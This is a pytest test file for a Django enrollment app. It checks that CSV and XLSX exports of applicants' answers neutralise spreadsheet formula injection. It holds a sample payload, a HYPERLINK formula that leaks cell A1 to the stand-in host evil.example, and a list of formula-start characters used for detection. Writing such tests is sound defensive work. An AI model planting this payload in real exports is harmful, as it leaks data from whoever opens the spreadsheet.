"""The applications export carries the answers to each cohort's own questions, safe to open
in a spreadsheet."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from enrollment import services
from enrollment.models import CohortQuestion
from tests.support.factories import CohortFactory, UserFactory, application_answers

pytestmark = pytest.mark.django_db
Kind = CohortQuestion.Kind
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'

# Each answer neutralised where it starts; a long answer kept on its one line.
ANSWERS_CELL = f"Your website: '{EVIL}\nWould you volunteer?: No\nYour story: Hi. @SUM(A1)"
SNEAKY_CELL = "'=1+1 or more?: '-5"


def applied_with_answers():
    cohort = CohortFactory()
    website = CohortQuestion.objects.create(
        cohort=cohort, sort_order=0, label="Your website", kind=Kind.SHORT_TEXT
    )
    volunteer = CohortQuestion.objects.create(
        cohort=cohort, sort_order=1, label="Would you volunteer?", kind=Kind.YES_NO
    )
    story = CohortQuestion.objects.create(
        cohort=cohort, sort_order=2, label="Your story", kind=Kind.LONG_TEXT
    )
    services.application_submit(
        cohort_id=cohort.pk,
        resident=UserFactory(email="answers@example.org"),
        answers=application_answers(),
        consent_given=True,
        question_answers={website.pk: EVIL, volunteer.pk: "no", story.pk: "Hi.\n@SUM(A1)"},
    )
    # A question whose own words start like a formula, answered first in its cell.
    sneaky_cohort = CohortFactory()
    sneaky = CohortQuestion.objects.create(
        cohort=sneaky_cohort, sort_order=0, label="=1+1 or more?", kind=Kind.SHORT_TEXT
    )
    services.application_submit(
        cohort_id=sneaky_cohort.pk,
        resident=UserFactory(email="sneaky@example.org"),
        answers=application_answers(),
        consent_given=True,
        question_answers={sneaky.pk: "-5"},
    )


def test_the_export_has_the_answers_as_question_and_answer_lines_never_as_formulas(
    client, coordinator
):
    applied_with_answers()
    url = reverse("wagtailsnippets_enrollment_application:list")

    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    by_email = {row["Email"]: row["Your own questions"] for row in rows}
    assert by_email["answers@example.org"] == ANSWERS_CELL
    assert by_email["sneaky@example.org"] == SNEAKY_CELL
    for row in rows:
        for cell in row.values():
            assert not any(line.startswith(FORMULA_STARTS) for line in cell.splitlines()), cell

    response = client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    column = rows[0].index("Your own questions")
    answers = sorted(row[column] for row in rows[1:])
    assert answers == [SNEAKY_CELL, ANSWERS_CELL]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert all(
        not (isinstance(value, str) and value.startswith(FORMULA_STARTS))
        for row in rows
        for value in row
    )
